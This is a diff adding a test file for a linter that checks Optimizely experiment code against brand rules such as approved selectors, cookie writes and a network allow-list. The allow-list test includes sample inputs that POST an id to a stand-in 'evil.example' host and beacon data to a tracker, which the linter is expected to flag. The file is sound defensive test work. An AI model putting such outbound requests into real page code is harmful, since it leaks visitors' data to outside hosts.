@@ -1,0 +1,113 @@
+import assert from 'node:assert/strict';
+import { check } from '../index.js';
+import { testBrand } from './__fixtures__/brand.js';
+import { covered, ids, only } from './helpers.js';
+
+const brand = testBrand();
+const wrapped = (body: string) => `const utils = window.optimizely.get('utils');\nutils.waitForElement('.pdp__price').then(function (el) {\n${body}\n});`;
+
+describe('brand/unapproved-selector', () => {
+  it('accepts approved selectors, state pseudo-classes and names the variation creates', () => {
+    const text = wrapped([
+      "  if (document.querySelector('.exp-badge')) return;",
+      "  el.insertAdjacentHTML('afterend', '<span class=\"nw-badge\" data-nw-test=\"1\">New</span>');",
+      "  document.querySelector('[data-testid=\"site-header\"] .nw-badge');",
+      "  document.querySelector('[data-nw-test]');",
+      "  el.matches('.pdp__price:hover');",
+    ].join('\n'));
+    assert.deepEqual(only('brand/unapproved-selector', text, { brand }), []);
+  });
+
+  it('reports an unapproved selector at the selector with fixes to the nearest approved ones', () => {
+    const text = wrapped("  document.querySelector('.pdp-price');");
+    const [f] = only('brand/unapproved-selector', text, { brand });
+    assert.ok(f);
+    assert.equal(covered(text, f), '.pdp-price');
+    assert.match(f.message, /not approved for Northwind Outfitters/);
+    assert.equal(f.fixes?.[0]?.edits[0]?.newText, '.pdp__price');
+    assert.deepEqual(f.fixes?.[0]?.edits[0]?.range, f.range);
+  });
+
+  it('escapes quotes of a suggestion for the string it goes into', () => {
+    const text = wrapped('  document.querySelector("[data-testid=add-to-cart]");');
+    const [f] = only('brand/unapproved-selector', text, { brand });
+    const texts = f?.fixes?.map((x) => x.edits[0]!.newText) ?? [];
+    assert.ok(texts.includes('[data-testid=\\"add-to-cart-button\\"]'), texts.join(' | '));
+  });
+
+  it('respects the page type and says where the selector is approved', () => {
+    const text = "utils.waitForElement('[data-testid=\"checkout-button\"]');";
+    const [f] = only('brand/unapproved-selector', text, { brand, pageType: 'product-detail' });
+    assert.match(f!.message, /approved only on: cart/);
+    assert.deepEqual(only('brand/unapproved-selector', text, { brand, pageType: 'cart' }), []);
+  });
+
+  it('checks each selector of a list and CSS rule selectors', () => {
+    const css = '.pdp__title, .pdp__subtitle { font-weight: 700 }\n.exp-banner { color: red }';
+    const found = check({ text: css, filename: 'v.css' }, { brand }).findings.filter((f) => f.ruleId === 'brand/unapproved-selector');
+    assert.deepEqual(found.map((f) => covered(css, f)), ['.pdp__subtitle']);
+  });
+
+  it('reports deprecated approved selectors', () => {
+    assert.deepEqual(ids(wrapped("  document.querySelector('#promo-banner');"), { brand }).filter((i) => i.startsWith('brand/deprecated')), ['brand/deprecated-selector@3:27']);
+  });
+});
+
+describe('brand code rules', () => {
+  it('reports forbidden calls and assignments with the graph severity, message and docs', () => {
+    const text = "document.cookie = 'seen=1';\nwindow.localStorage.setItem('a', 'b');";
+    const found = only('brand/forbidden-call', text, { brand });
+    assert.deepEqual(found.map((f) => covered(text, f)), ['document.cookie', 'window.localStorage.setItem']);
+    assert.match(found[0]!.message, /^Do not write cookies/);
+    assert.equal(found[0]!.docsUrl, 'https://brand.example.test/rules/no-cookie-writes');
+    assert.equal(found[0]!.brandRule, 'no-cookie-writes');
+  });
+
+  it('requires DOM queries inside the wrapper (callback, then, or after await)', () => {
+    const ok = [
+      "utils.waitForElement('.pdp__price').then((el) => el.querySelector('.pdp__title'));",
+      "async function run() { const el = await utils.waitForElement('.pdp__price'); el.closest('body').querySelector('.pdp__title'); }",
+    ].join('\n');
+    assert.deepEqual(only('brand/required-wrapper', ok, { brand }), []);
+    const [f] = only('brand/required-wrapper', "document.querySelector('.pdp__title');", { brand });
+    assert.equal(f?.severity, 'warning');
+  });
+
+  it('reports requests to hosts outside the allow-list, at the URL', () => {
+    const text = [
+      "fetch('https://api.northwind.example/stock');",
+      "fetch('/api/relative');",
+      "navigator.sendBeacon('https://collect.tracker.example/b', data);",
+      "new Image().src = '//pixel.ads.example/p.gif';",
+      "xhr.open('POST', `https://evil.example/${id}`);",
+      "s.src = 'https://static.northwind-cdn.example/x.js';",
+    ].join('\n');
+    const found = only('brand/network-allowlist', text, { brand });
+    assert.deepEqual(found.map((f) => f.range.start.line), [2, 3, 4]);
+    assert.match(found[0]!.message, /collect\.tracker\.example/);
+  });
+
+  it('reports a file over the size budget where the budget runs out', () => {
+    const text = `var a = '${'x'.repeat(5000)}';`;
+    const [f] = only('brand/size-budget', text, { brand });
+    assert.equal(f?.range.start.character, 4096);
+    assert.match(f!.message, /5011 bytes, budget 4096/);
+  });
+});
+
+describe('brand packs and skipped rules', () => {
+  it('lists every brand rule as skipped, with the reason, when no brand is given', () => {
+    const { skipped } = check({ text: 'x();', filename: 'v.js' });
+    assert.deepEqual(skipped.map((s) => s.ruleId), ['brand/unapproved-selector', 'brand/deprecated-selector', 'brand/forbidden-call', 'brand/required-wrapper', 'brand/network-allowlist', 'brand/size-budget']);
+    assert.match(skipped[0]!.reason, /No brand given/);
+  });
+
+  it('turns off packs the brand does not adopt and reports them as skipped', () => {
+    const onlyRecommended = testBrand({ rulePacks: ['recommended'] });
+    const text = "window.optimizely.push({ type: 'nope' });";
+    assert.deepEqual(only('optimizely-web/valid-push', text, { brand: onlyRecommended }), []);
+    assert.equal(only('optimizely-web/valid-push', text, { brand: onlyRecommended, rules: { 'optimizely-web/valid-push': 'warning' } }).length, 1);
+    const { skipped } = check({ text, filename: 'v.js' }, { brand: onlyRecommended });
+    assert.ok(skipped.some((s) => s.ruleId === 'optimizely-web/valid-push' && /does not adopt the optimizely-web/.test(s.reason)));
+  });
+});
